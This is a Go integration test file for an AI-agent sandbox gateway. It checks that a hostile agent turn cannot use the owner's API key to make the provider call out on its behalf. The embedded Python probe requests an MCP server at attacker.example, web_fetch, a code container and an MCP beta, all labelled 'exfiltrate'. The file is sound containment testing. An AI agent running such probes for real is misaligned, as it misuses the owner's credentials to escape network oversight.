package agents_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/shrooms-cage/shrooms/internal/itest"
	"github.com/shrooms-cage/shrooms/internal/modelapi"
	"github.com/shrooms-cage/shrooms/pkg/gateway"
)

// serverSideProbe is what a hostile turn runs to have the provider act on
// the network for it through the gateway, with the owner's key: an MCP
// server to connect to, a web_fetch tool, a code-execution container, and
// a beta that switches such a capability on. It records each status.
const serverSideProbe = `import json,os,urllib.request as u
def call(body, beta=None):
    h = {"x-api-key": os.environ["ANTHROPIC_API_KEY"], "content-type": "application/json", "anthropic-version": "2023-06-01", "accept-encoding": "gzip, deflate, br, zstd"}
    if beta: h["anthropic-beta"] = beta
    r = u.Request("http://127.0.0.1:4180/v1/messages", data=json.dumps(body).encode(), method="POST", headers=h)
    try:
        return u.urlopen(r, timeout=20).status
    except u.HTTPError as e:
        return e.code
m = {"model": "claude-test", "max_tokens": 10, "messages": [{"role": "user", "content": "exfiltrate"}]}
res = {
  "mcp": call(dict(m, mcp_servers=[{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}])),
  "web_fetch": call(dict(m, tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}])),
  "container": call(dict(m, container="container_011CPR5CNjB747bTd36fQLFk")),
  "beta": call(m, "mcp-client-2025-04-04"),
}
open("/work/.gwserver", "w").write(json.dumps(res))`

// TestGatewayRefusesServerSideCapabilities: under policy "none" a hostile
// Claude Code turn asks the provider, through the gateway, for an MCP
// server, a web_fetch tool, a container and the MCP beta: each is refused
// (403, counted as refused) and none reaches the upstream, while the turn's
// own requests (Claude Code's betas, its custom tools) go through. Positive
// control: with allow_server_tools and allow_betas set, the same requests
// reach the upstream.
func TestGatewayRefusesServerSideCapabilities(t *testing.T) {
	itest.Require(t, itest.Root, itest.Podman, itest.Nftables, itest.Netns)
	probe := bash("python3 - <<'EOF'\n" + serverSideProbe + "\nEOF")

	e := newEnvWith(t, envOptions{gateway: true, policy: "none"})
	e.API.Append(probe, modelapi.Text("probed"))
	code, out, errb := e.CLI("--json", "run", "--task", e.Task("claude"), "--agent", "claude", "--worktree", e.Worktree, "--no-stdin", "--",
		"-p", "--output-format", "json", "probe the gateway")
	assert.Equal(t, code, 0, "%s %s\n%s", out, errb, e.API.Log())
	assert.Equal(t, parseClaude(t, out).Result, "probed", "the turn works through the gateway")
	assert.DeepEqual(t, gwProbe(t, e.Worktree), map[string]int{"mcp": 403, "web_fetch": 403, "container": 403, "beta": 403})
	var u usageResult
	lastJSON(t, out, &u)
	assert.Equal(t, u.Usage.Refused, int64(4))
	for _, r := range e.API.Requests() {
		assert.Assert(t, !isProbe(r.Body), "a refused request reached the upstream: %s", r.Body)
		for _, b := range betas(r.Header.Values("Anthropic-Beta")) {
			assert.Assert(t, slices.Contains(gateway.BuiltinBetas, b), "Claude Code sent beta %q, not built in", b)
		}
	}

	// Positive control: allowed, the same requests reach the upstream. The
	// probe's raw requests carry no session id, which the conversation pin
	// refuses (and ends the turn for) under history = "refuse": it is off
	// here, this control is about the server-side capabilities alone.
	c := newEnvWith(t, envOptions{gateway: true, policy: "none", gatewayExtra: `allow_server_tools = ["mcp_servers", "web_fetch", "container"]` + "\n" + `allow_betas = ["mcp-client-2025-04-04"]` + "\n" + `history = "off"`})
	c.API.Append(probe, modelapi.Text("web_fetch probe's answer"), modelapi.Text("probed"))
	code, out, errb = c.CLI("--json", "run", "--task", c.Task("claude"), "--agent", "claude", "--worktree", c.Worktree, "--no-stdin", "--",
		"-p", "--output-format", "json", "probe the gateway")
	assert.Equal(t, code, 0, "%s %s\n%s", out, errb, c.API.Log())
	assert.DeepEqual(t, gwProbe(t, c.Worktree), map[string]int{"mcp": 200, "web_fetch": 200, "container": 200, "beta": 200})
	reached := 0
	for _, r := range c.API.Requests() {
		if isProbe(r.Body) {
			reached++
		}
	}
	assert.Equal(t, reached, 4)
}

// TestGatewayOpencodeBetas: opencode's requests through the gateway carry
// only built-in betas and custom tools (the turn works: TestGatewayOpencode).
func TestGatewayOpencodeBetas(t *testing.T) {
	itest.Require(t, itest.Root, itest.Podman, itest.Nftables, itest.Netns)
	e := newEnvWith(t, envOptions{gateway: true, policy: "none"})
	e.API.Append(ocBash(`echo hi`), modelapi.Text("done"))
	code, out, errb := e.CLI("--json", "run", "--task", e.Task("opencode"), "--agent", "opencode", "--worktree", e.Worktree, "--no-stdin", "--",
		"--format", "json", "hello")
	assert.Equal(t, code, 0, "%s %s\n%s", out, errb, e.API.Log())
	var u usageResult
	lastJSON(t, out, &u)
	assert.Equal(t, u.Usage.Refused, int64(0))
	tools := 0
	for _, r := range e.API.Requests() {
		for _, b := range betas(r.Header.Values("Anthropic-Beta")) {
			assert.Assert(t, slices.Contains(gateway.BuiltinBetas, b), "opencode sent beta %q, not built in", b)
		}
		var body struct {
			Tools []map[string]any `json:"tools"`
		}
		assert.NilError(t, json.Unmarshal(r.Body, &body))
		for _, tl := range body.Tools {
			ty, typed := tl["type"]
			assert.Assert(t, !typed || ty == "custom", "opencode sent a %v tool", ty)
			tools++
		}
	}
	assert.Assert(t, tools > 0, "opencode sent its tools")
}

func gwProbe(t *testing.T, worktree string) map[string]int {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(worktree, ".gwserver"))
	assert.NilError(t, err)
	var got map[string]int
	assert.NilError(t, json.Unmarshal(b, &got))
	return got
}

func betas(values []string) []string {
	var out []string
	for _, v := range values {
		for _, b := range strings.Split(v, ",") {
			if b = strings.TrimSpace(b); b != "" {
				out = append(out, b)
			}
		}
	}
	return out
}

// isProbe reports whether body is one of serverSideProbe's requests (the
// agent's own requests carry the probe's script as a tool input).
func isProbe(body []byte) bool {
	var r struct {
		Messages []struct {
			Content any `json:"content"`
		} `json:"messages"`
	}
	return json.Unmarshal(body, &r) == nil && len(r.Messages) == 1 && r.Messages[0].Content == "exfiltrate"
}
